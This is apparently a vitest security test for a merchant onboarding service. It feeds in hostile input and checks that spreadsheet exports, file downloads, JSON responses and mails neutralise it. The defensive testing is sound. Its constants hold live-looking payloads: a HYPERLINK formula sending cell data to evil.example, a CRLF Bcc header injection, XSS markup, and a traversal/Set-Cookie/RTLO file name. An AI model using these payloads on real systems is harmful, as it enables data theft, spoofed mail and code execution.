import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openFreshEmbedded } from '../../testkit/databases.ts';
import { eventually } from '../../testkit/eventually.ts';
import { casesOf, chooseMethods, finishBusiness, rehearsalVisitor, signUpMerchant, syntheticRegistrationNumber } from '../../testkit/merchant-walk.ts';
import { startApp, type TestApp, type Visitor } from '../../testkit/start-app.ts';

// An application made to harm whoever opens it: formulas, markup, paths and header lines wherever a merchant can write. What goes by mail and PDF is in
// connectors/gateway/mail/connector.test.ts, what shops' customers write in features/integration/payment-sheet.test.ts.

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"눌러 주세요")';
const HEADERS = '\r\nBcc: everybody@evil.example';
const SCRIPT = '<script>alert(1)</script><img src=x onerror=alert(1)>';
const FILE = '../../../etc/cron.d/x\r\nSet-Cookie: a=b; "\u202egpj.exe.png';
const BEGINS_FORMULA = /^[=+\-@\t\r＝＋－＠]/u;

let app: TestApp;
let team: Visitor;
let merchant: Visitor;
let operator: Visitor;
let one: any;
let documentId: string;
let address: string;

beforeAll(async () => {
  app = await startApp(await openFreshEmbedded(), { speed: 1 });
  operator = await rehearsalVisitor(app, 'operator');
  team = await rehearsalVisitor(app, 'gateway');
  ({ visitor: merchant, email: address } = await signUpMerchant(app, undefined, { operator }));
  await merchant.call('PATCH', '/api/merchant', { name: FORMULA });
  await chooseMethods(merchant, { methods: ['card'], addedTypes: [], choices: [{ method: 'card', type: 'one_time', gateway: 'tosspayments' }] });
  const form = new FormData();
  form.append('file', new Blob([readFileSync(join(import.meta.dirname, '../../reader/samples/individual-general.jpg'))], { type: 'image/jpeg' }), FILE);
  const uploaded = await merchant.call('POST', '/api/documents', form);
  expect(uploaded.status).toBe(201);
  documentId = uploaded.body.id;
  await eventually(async () => expect((await merchant.call('GET', `/api/documents/${documentId}`)).body.state).toBe('read'), { withinMs: 60_000 });
  const { body: business } = await merchant.call('GET', '/api/business');
  const filled = await merchant.change('PATCH', '/api/business', business.version, {
    form: {
      kind: 'individual', taxType: 'general', registrationNumber: syntheticRegistrationNumber(), tradeName: FORMULA, openingDate: '2021-03-15', address: `@SUM(1+1) ${SCRIPT}${HEADERS}`,
      businessTypes: ['+도매'], businessItems: ['-소매'], representatives: [{ name: '김하나', email: 'owner@example.kr', birthDate: '1980-01-01', mobilePhone: '010-0000-1234' }],
      contact: { sameAsRepresentative: 0, name: '', email: '', mobilePhone: '', phone: '' },
      service: { form: 'web', urls: ['https://shop.example.com'], notInStoreYet: false, industries: ['fashion'], monthlyVolume: 'under_100m', memo: `${SCRIPT}\r\n=1+1` },
    },
  });
  expect(filled.status, JSON.stringify(filled.body)).toBe(200);
  const application = await finishBusiness(merchant, filled.body);
  one = await eventually(async () => {
    const [found] = await casesOf(merchant, application);
    expect(found?.tracks.intake.state).toBe('handed_over');
    return found;
  }, { withinMs: 30_000 });
}, 180_000);
afterAll(() => app.close());

it('no cell of a sheet of the gateway begins a formula, and none has lost a word', async () => {
  const csv = (await team.call('GET', '/api/gateway/sheet?format=csv')).body as string;
  const rows = parse(csv, { bom: true }) as string[][];
  const line = rows.find((cells) => cells.includes(one.reference));
  expect(line?.some((cell) => cell.endsWith(FORMULA))).toBe(true);
  for (const cell of rows.flat()) expect(cell).not.toMatch(BEGINS_FORMULA);

  const answer = await fetch(`${app.url}/api/gateway/sheet?format=xlsx`, { headers: { cookie: team.cookies().map(({ name, value }) => `${name}=${value}`).join('; ') } });
  const parts = unzipSync(new Uint8Array(await answer.arrayBuffer()));
  const xml = Object.entries(parts).filter(([name]) => name.endsWith('.xml')).map(([, bytes]) => strFromU8(bytes)).join('\n');
  expect(xml).toContain('HYPERLINK(');
  expect(xml).not.toMatch(/<f[ >]|<hyperlink|externalLink|<script/i);
  for (const name of Object.keys(parts)) expect(name).toMatch(/^(?!\/)(?!.*\.\.)[\w./[\]-]+$/);
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[\w.%-]+$/);
});

it('a file has a name and no place, wherever it is named or downloaded', async () => {
  const { fileName } = (await merchant.call('GET', `/api/documents/${documentId}`)).body as { fileName: string };
  expect(fileName).not.toMatch(/[/\\\p{Cc}\p{Bidi_Control}]|\.\./u);
  expect(fileName.length).toBeGreaterThan(4);
  const page = await merchant.call('GET', `/api/documents/${documentId}/page`);
  expect(page.status).toBe(200);
  expect(page.headers.get('set-cookie') ?? '').not.toContain('a=b');
  expect(page.headers.get('content-disposition') ?? '').not.toMatch(/\.\.|\/etc|[\r\n]/);
  expect(page.headers.get('x-content-type-options')).toBe('nosniff');
  expect(page.headers.get('content-type')).toMatch(/^image\//);
});

it('its words are data of an answer that no browser takes for a page', async () => {
  for (const [who, path] of [[team, `/api/gateway/cases/${one.id}`], [operator, `/api/desk/cases/${one.id}`], [operator, '/api/desk/cases']] as const) {
    const { status, headers } = await who.call('GET', path);
    expect([path, status, headers.get('content-type'), headers.get('x-content-type-options')]).toEqual([path, 200, expect.stringMatching(/^application\/json/), 'nosniff']);
    expect(headers.get('content-security-policy')).toMatch(/script-src 'self'(?! 'unsafe)/);
  }
});

it('mails about it have one recipient and one line of subject', async () => {
  const { items } = (await operator.call('GET', '/api/desk/mail?limit=100')).body as { items: { to: string; subject: unknown; state: string }[] };
  expect(items.some(({ to }) => to === address)).toBe(true);
  for (const { to, subject } of items) {
    expect(to).toMatch(/^[^\s,;<>]+@[^\s,;<>]+$/);
    expect(JSON.stringify(subject)).not.toMatch(/\\r|\\n|evil\.example/);
  }
});
